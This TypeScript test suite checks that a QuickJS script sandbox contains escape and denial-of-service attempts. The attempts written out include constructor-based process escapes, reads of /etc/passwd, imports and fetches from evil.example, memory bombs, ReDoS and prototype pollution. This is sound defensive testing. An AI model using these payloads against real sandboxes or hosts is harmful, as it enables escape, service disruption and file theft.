/**
 * Attempts to get out of the sandbox, or to bring it or the host down. Each must end as a RuleError with the right
 * reason (or, for probes, find nothing), and leave the host and the next run untouched. The rules run with the
 * default limits (250 ms, 32 MiB, 512 KiB of stack, 1 MiB of output).
 */
import { after, test } from 'node:test';
import * as assert from 'node:assert/strict';
import type { RuleError } from '@tandem/core';
import { createScriptRules, SandboxPool, type ScriptRules, type ScriptRulesOptions } from '../src/script/index.ts';
import { incomingInput, outgoingInput } from './script-fixtures.ts';

const pool = new SandboxPool({ size: 2 });
after(() => pool.close());

type Reason = RuleError['details']['reason'];

/** Memory bombs get CPU time to spare, so that what stops them is the memory limit, even on a busy machine. */
const BOMB_LIMITS = { cpuTimeMs: 10_000 };

function rulesOf(outgoing: string, extra: Partial<ScriptRulesOptions> = {}): ScriptRules {
  return createScriptRules({
    connection: 'c',
    instance: 'cloud',
    outgoing: { source: outgoing, name: 'attack.js' },
    incoming: {
      source: 'export default ({ tandem, replica }) => { tandem.set("summary", replica.fields.summary); };',
      name: 'ok.js',
    },
    pool,
    ...extra,
  });
}

/** The host is as it was: no pollution, Node's globals in place, and the pool still runs a plain rule. */
async function assertHostUnaffected(): Promise<void> {
  const probe = {} as Record<string, unknown>;
  assert.equal(probe['polluted'], undefined);
  assert.equal(typeof process.exit, 'function');
  assert.equal(typeof Array.prototype.push, 'function');
  assert.equal([1, 2].map((n) => n * 2).join(), '2,4');
  const rules = rulesOf(
    'export default ({ issue, replica }) => { replica.fields.key = issue.key; replica.fields.clean = typeof ({}).polluted; };',
  );
  const result = await rules.outgoing(outgoingInput());
  await rules.close();
  assert.deepEqual(result?.fields, { key: 'SUP-7', clean: 'undefined' });
}

/** Runs an attack as the outgoing rule and checks it is stopped with `reason`, then that nothing else changed. */
async function contained(
  source: string,
  reason: Reason,
  message?: RegExp,
  limits?: ScriptRulesOptions['limits'],
): Promise<RuleError> {
  const rules = rulesOf(source, limits ? { limits } : {});
  const run = await rules.runOutgoing(outgoingInput());
  await rules.close();
  assert.ok(!run.ok, `the attack was not stopped: ${JSON.stringify(run.ok && run.result)}`);
  assert.equal(run.error.details.reason, reason, run.error.message);
  assert.equal(run.error.details.file, 'attack.js');
  if (message) assert.match(run.error.message, message);
  await assertHostUnaffected();
  return run.error;
}

void test('1. an infinite loop is stopped at the CPU limit, within the rule', async () => {
  const error = await contained(
    'export default ({ issue }) => {\n  let n = 0;\n  for (;;) n += issue.key.length;\n};',
    'cpu-limit',
    /CPU time limit \(250 ms\)/,
  );
  // QuickJS places a loop without calls at the start of the function it was running.
  assert.ok(error.details.line !== undefined && error.details.line >= 1 && error.details.line <= 3);
});

void test('2. catch and finally cannot swallow the CPU limit', async () => {
  await contained(
    'export default () => { for (;;) { try { for (;;) {} } catch (e) {} finally { continue; } } };',
    'cpu-limit',
  );
});

void test('3. an infinite loop in a getter hit while the result is written out is stopped', async () => {
  await contained(
    "export default ({ replica }) => { Object.defineProperty(replica.fields, 'x', { enumerable: true, get() { for (;;) {} } }); };",
    'cpu-limit',
  );
});

void test('4. a memory bomb growing an array is stopped at the memory limit', async () => {
  await contained(
    'export default () => { const keep = []; for (;;) keep.push(new Array(100000).fill(keep.length)); };',
    'memory-limit',
    undefined,
    BOMB_LIMITS,
  );
});

void test('5. a memory bomb of many small objects is stopped at the memory limit', async () => {
  await contained(
    'export default () => { const keep = []; for (let i = 0; ; i++) keep.push({ i, s: "x" + i }); };',
    'memory-limit',
    undefined,
    BOMB_LIMITS,
  );
});

void test('6. a string doubling bomb is stopped at the memory limit', async () => {
  await contained(
    "export default ({ replica }) => { let s = 'x'; for (;;) { s = s + s; replica.fields.last = s.charAt(s.length - 1); } };",
    'memory-limit',
    undefined,
    BOMB_LIMITS,
  );
});

void test('7. typed arrays do not get around the memory limit', async () => {
  await contained(
    'export default () => { const keep = []; for (;;) keep.push(new Uint8Array(4 * 1024 * 1024)); };',
    'memory-limit',
    undefined,
    BOMB_LIMITS,
  );
});

void test('8. deep recursion is stopped at the stack limit', async () => {
  await contained(
    'function down(n) { return down(n + 1) + 1; }\nexport default () => { down(0); };',
    'memory-limit',
    /ran out of stack/,
  );
});

void test("9. this.constructor.constructor('return process')() finds no process", async () => {
  await contained(
    "export default function () { return ({}).constructor.constructor('return process')(); }",
    'error',
    /'process' is not defined/,
  );
  await contained(
    "export default function () { return (function () { return this; }).constructor('return this.process.env')(); }",
    'error',
    /cannot read property 'env' of undefined/i,
  );
});

void test("10. Function('return globalThis')() shows none of the host's powers", async () => {
  const rules = rulesOf(`export default ({ replica }) => {
    const g = Function('return globalThis')();
    const names = ['process', 'require', 'module', 'fetch', 'setTimeout', 'setInterval', 'setImmediate',
      'queueMicrotask', 'XMLHttpRequest', 'WebSocket', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'Buffer',
      'Deno', 'Bun', 'std', 'os', 'importScripts', 'postMessage', '__filename', 'global'];
    replica.fields.found = names.filter((name) => typeof g[name] !== 'undefined');
    replica.fields.globals = Object.getOwnPropertyNames(g).filter((name) => /process|require|fetch|timeout|wasm|worker/i.test(name));
  };`);
  const result = await rules.outgoing(outgoingInput());
  await rules.close();
  assert.deepEqual(result?.fields, { found: [], globals: [] });
  await assertHostUnaffected();
});

void test('11. require is not defined', async () => {
  await contained(
    "export default () => { require('fs').readFileSync('/etc/passwd'); };",
    'error',
    /'require' is not defined/,
  );
});

void test("12. import('fs') is refused", async () => {
  await contained(
    "export default async () => { const fs = await import('fs'); return fs.readFileSync('/etc/passwd'); };",
    'error',
    /cannot import modules \("fs"\)/,
  );
});

void test('13. a dynamic import() of a URL is refused (no network)', async () => {
  const error = await contained(
    "export default async ({ replica }) => {\n  const url = 'https://' + 'evil.example/x.js';\n  await import(url);\n};",
    'error',
    /cannot import modules \("https:\/\/evil\.example\/x\.js"\)/,
  );
  assert.equal(error.details.line, 3);
});

void test('14. fetch, XMLHttpRequest and setTimeout are not defined', async () => {
  await contained(
    "export default async () => { await fetch('https://evil.example'); };",
    'error',
    /'fetch' is not defined/,
  );
  await contained('export default () => { new XMLHttpRequest(); };', 'error', /'XMLHttpRequest' is not defined/);
  await contained('export default () => { setTimeout(() => {}, 0); };', 'error', /'setTimeout' is not defined/);
});

void test('15. prototype pollution reaches neither the host nor the next run', async () => {
  const rules = rulesOf(`export default ({ replica, tandem }) => {
    Object.prototype.polluted = 'yes';
    Array.prototype.map = function () { return ['hijacked']; };
    JSON.stringify = () => '{"fields":{"forged":true}}';
    Object.keys = () => ['forged'];
    replica.fields.seen = typeof ({}).polluted;
    tandem.mergeLinks();
  };`);
  const result = await rules.outgoing(outgoingInput());
  await rules.close();
  // The result is written with the functions captured before the rule ran.
  assert.equal(result?.fields['seen'], 'string');
  assert.equal(result?.fields['forged'], undefined);
  await assertHostUnaffected();
});

void test('16. state kept in globalThis does not survive to the next run', async () => {
  const rules = rulesOf(`globalThis.runs = (globalThis.runs ?? 0) + 1;
    let calls = 0;
    export default ({ replica }) => { calls++; replica.fields.runs = globalThis.runs; replica.fields.calls = calls; };`);
  const first = await rules.outgoing(outgoingInput());
  const second = await rules.outgoing(outgoingInput());
  await rules.close();
  assert.deepEqual(first?.fields, { runs: 1, calls: 1 });
  assert.deepEqual(second?.fields, { runs: 1, calls: 1 });
});

void test('17. a promise that never settles fails the run instead of hanging it', async () => {
  await contained('export default () => new Promise(() => {});', 'error', /never settles/);
  await contained('export default async () => { await new Promise(() => {}); };', 'error', /never settles/);
  await contained('await new Promise(() => {});\nexport default () => {};', 'error', /never settles/);
});

void test('18. an endless chain of promise jobs is stopped at the CPU limit', async () => {
  await contained('export default async () => { for (;;) await null; };', 'cpu-limit');
});

void test('19. a catastrophic-backtracking regular expression is stopped at the CPU limit', async () => {
  await contained(
    "export default ({ replica }) => { replica.fields.m = /^(a+)+$/.test('a'.repeat(40) + '!'); };",
    'cpu-limit',
  );
});

void test('20. a 10 MB string in the result is stopped at the output limit', async () => {
  await contained(
    "export default ({ replica }) => { replica.fields.summary = 'x'.repeat(10 * 1024 * 1024); };",
    'output-limit',
    /larger than the output limit \(1048576 characters of JSON, at replica\.fields\.summary\)/,
  );
});

void test('21. a flood of log lines is stopped at the output limit', async () => {
  await contained(
    "export default () => { const line = 'y'.repeat(1000); for (let i = 0; i < 5000; i++) console.log(line); };",
    'output-limit',
  );
});

void test('22. a result with cyclic references is refused', async () => {
  await contained(
    'export default ({ replica }) => { const a = { b: {} }; a.b.a = a; replica.fields.a = a; };',
    'bad-result',
    /replica\.fields\.a\.b\.a refers back to itself/,
  );
});

void test('23. symbols in the result are refused or ignored, never sent', async () => {
  await contained("export default ({ replica }) => { replica.fields.s = Symbol('x'); };", 'bad-result', /is a symbol/);
  const rules = rulesOf(
    "export default ({ replica }) => { replica.fields[Symbol('hidden')] = 'x'; replica.fields.a = 1; };",
  );
  assert.deepEqual((await rules.outgoing(outgoingInput()))?.fields, { a: 1 });
  await rules.close();
});

void test('24. proxy tricks on the result are held to the limits', async () => {
  await contained('export default () => new Proxy({}, { ownKeys() { for (;;) {} } });', 'cpu-limit');
  await contained(
    'const deeper = () => new Proxy({}, { ownKeys: () => ["next"], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: deeper() }), get: () => deeper() });\nexport default ({ replica }) => { replica.fields.p = deeper(); };',
    'bad-result',
    /nested more than 64 levels/,
  );
  await contained(
    "export default ({ replica }) => { replica.fields.x = new Proxy({}, { get() { throw new Error('trap'); }, ownKeys: () => ['a'], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true }) }); };",
    'error',
    /trap/,
  );
});

void test('25. a function or a toJSON in the result is refused, not called', async () => {
  await contained(
    'export default ({ replica }) => { replica.fields.x = { toJSON() { return "forged"; } }; };',
    'bad-result',
    /replica\.fields\.x\.toJSON is a function/,
  );
});

void test('26. eval of the attacks above is contained the same way', async () => {
  await contained("export default () => { eval('while (true) {}'); };", 'cpu-limit');
  await contained('export default () => { eval(\'require("fs")\'); };', 'error', /'require' is not defined/);
  await contained(
    'export default () => { (0, eval)(\'this.constructor.constructor("return process")()\'); };',
    'error',
    /'process' is not defined/,
  );
  await contained(
    "export default () => { eval('const a = []; for (;;) a.push(new Array(100000).fill(0));'); };",
    'memory-limit',
    undefined,
    BOMB_LIMITS,
  );
});

void test('27. a thrown error whose message getter spins is stopped at the CPU limit', async () => {
  await contained(
    "export default () => { const e = new Error('x'); Object.defineProperty(e, 'message', { get() { for (;;) {} } }); throw e; };",
    'cpu-limit',
  );
});

void test('28. the helpers hand nothing of the host to the rule', async () => {
  const rules = rulesOf(`export default ({ replica, tandem }) => {
    const fromLog = tandem.log.constructor('return typeof process + typeof require')();
    const fromConsole = console.log.constructor('return typeof process')();
    replica.fields.found = [fromLog, fromConsole];
  };`);
  assert.deepEqual((await rules.outgoing(outgoingInput()))?.fields, { found: ['undefinedundefined', 'undefined'] });
  await rules.close();
});

void test('a run that does not stop is ended from outside by terminating its worker', async () => {
  // A backstop of 100 ms under a 5 s CPU limit: the worker is terminated long before QuickJS would interrupt.
  const hurried = new SandboxPool({ size: 1, backstopMs: (cpuTimeMs) => 100 - cpuTimeMs });
  const rules = rulesOf('export default () => { for (;;) {} };', { pool: hurried, limits: { cpuTimeMs: 5000 } });
  const started = Date.now();
  const run = await rules.runOutgoing(outgoingInput());
  assert.ok(Date.now() - started < 4000, 'the worker was terminated before the CPU limit');
  assert.ok(!run.ok);
  assert.equal(run.error.details.reason, 'cpu-limit');
  assert.match(run.error.message, /its sandbox was ended/);
  // The pool replaced the worker: the next run is served.
  const next = rulesOf('export default ({ replica }) => { replica.fields.ok = true === true ? 1 : 0; };', {
    pool: hurried,
  });
  assert.deepEqual((await next.outgoing(outgoingInput()))?.fields, { ok: 1 });
  await Promise.all([rules.close(), next.close()]);
  await hurried.close();
});

void test('while one rule spins until its CPU limit, other runs complete and the host event loop stays free', async () => {
  const spinning = rulesOf('export default () => { for (;;) {} };', { limits: { cpuTimeMs: 1500 } });
  const quick = createScriptRules({
    connection: 'c',
    instance: 'cloud',
    outgoing: { source: 'export default () => {};', name: 'o.js' },
    incoming: {
      source: 'export default ({ tandem, replica }) => { tandem.set("summary", replica.fields.summary); };',
      name: 'i.js',
    },
    pool,
  });
  // Both workers started first: what is measured is the spin, not a worker's start-up.
  await Promise.all([quick.incoming(incomingInput()), quick.incoming(incomingInput())]);
  const events: string[] = [];
  const spin = spinning.runOutgoing(outgoingInput()).then((run) => {
    events.push(`spin ended: ${run.ok ? 'ok' : run.error.details.reason}`);
  });
  await new Promise<void>((resolve) => setTimeout(resolve, 200));
  events.push('timer fired');
  const other = await quick.incoming(incomingInput());
  events.push('other run done');
  await spin;
  await Promise.all([spinning.close(), quick.close()]);
  assert.deepEqual(other.fields, { summary: 'Checkout fails on Safari' });
  assert.deepEqual(events, ['timer fired', 'other run done', 'spin ended: cpu-limit']);
});
